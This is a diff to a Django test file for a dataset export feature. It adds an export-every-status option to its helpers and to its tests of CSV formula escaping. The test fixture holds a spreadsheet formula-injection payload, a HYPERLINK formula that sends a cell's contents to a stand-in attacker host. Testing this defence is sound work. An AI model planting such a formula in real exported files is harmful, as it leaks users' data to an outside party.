@@ -23,6 +23,9 @@ pytestmark = pytest.mark.django_db
 
 ATTACK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
 
+# The export takes approved examples unless told otherwise; these tests export every status.
+EVERY_STATUS = ["draft", "needs_review", "approved", "rejected"]
+
 
 def user(text: str) -> dict:
     return {"role": "user", "content": text}
@@ -63,7 +66,7 @@ def chats(owner) -> Project:
 
 
 def export_text(project: Project, format: str = "csv", **options) -> str:
-    _type, _name, chunks = example_export(project=project, format=format, **options)
+    _type, _name, chunks = example_export(project=project, status="any", format=format, **options)
     return b"".join(chunks).decode("utf-8-sig")
 
 
@@ -156,7 +159,7 @@ def api_as(username: str) -> APIClient:
 
 
 def api_export(project: Project, **params) -> tuple[int, str | dict]:
-    response = api_as("rhea").get(f"/api/projects/{project.slug}/export/", params)
+    response = api_as("rhea").get(f"/api/projects/{project.slug}/export/", {"status": "any", **params})
     if response.status_code != 200:
         return response.status_code, response.json()
     return 200, b"".join(response.streaming_content).decode("utf-8-sig")
@@ -186,8 +189,8 @@ def test_the_export_page_neutralises_formulas_unless_the_box_is_ticked(client, p
     url = f"/p/{project.slug}/export/"
 
     page = client.get(url)
-    escaped = client.get(url, {"format": "csv"})
-    raw = client.get(url, {"format": "csv", "raw_formulas": "on"})
+    escaped = client.get(url, {"format": "csv", "status": EVERY_STATUS})
+    raw = client.get(url, {"format": "csv", "status": EVERY_STATUS, "raw_formulas": "on"})
 
     assert "Keep formulas raw" in page.content.decode()
     assert cells(b"".join(escaped.streaming_content).decode("utf-8-sig"))[1][1] == "'" + ATTACK
@@ -197,8 +200,8 @@ def test_the_export_page_neutralises_formulas_unless_the_box_is_ticked(client, p
 def test_the_export_command_writes_raw_formulas_only_when_asked(chats, tmp_path):
     escaped, raw = tmp_path / "escaped.csv", tmp_path / "raw.csv"
 
-    call_command("export_examples", chats.slug, "--format", "csv", "-o", str(escaped))
-    call_command("export_examples", chats.slug, "--format", "csv", "--raw-formulas", "-o", str(raw))
+    call_command("export_examples", chats.slug, "--status", "any", "--format", "csv", "-o", str(escaped))
+    call_command("export_examples", chats.slug, "--status", "any", "--format", "csv", "--raw-formulas", "-o", str(raw))
 
     assert cells(escaped.read_text("utf-8-sig"))[1][1] == "'" + ATTACK
     assert cells(raw.read_text("utf-8-sig"))[1][1] == ATTACK
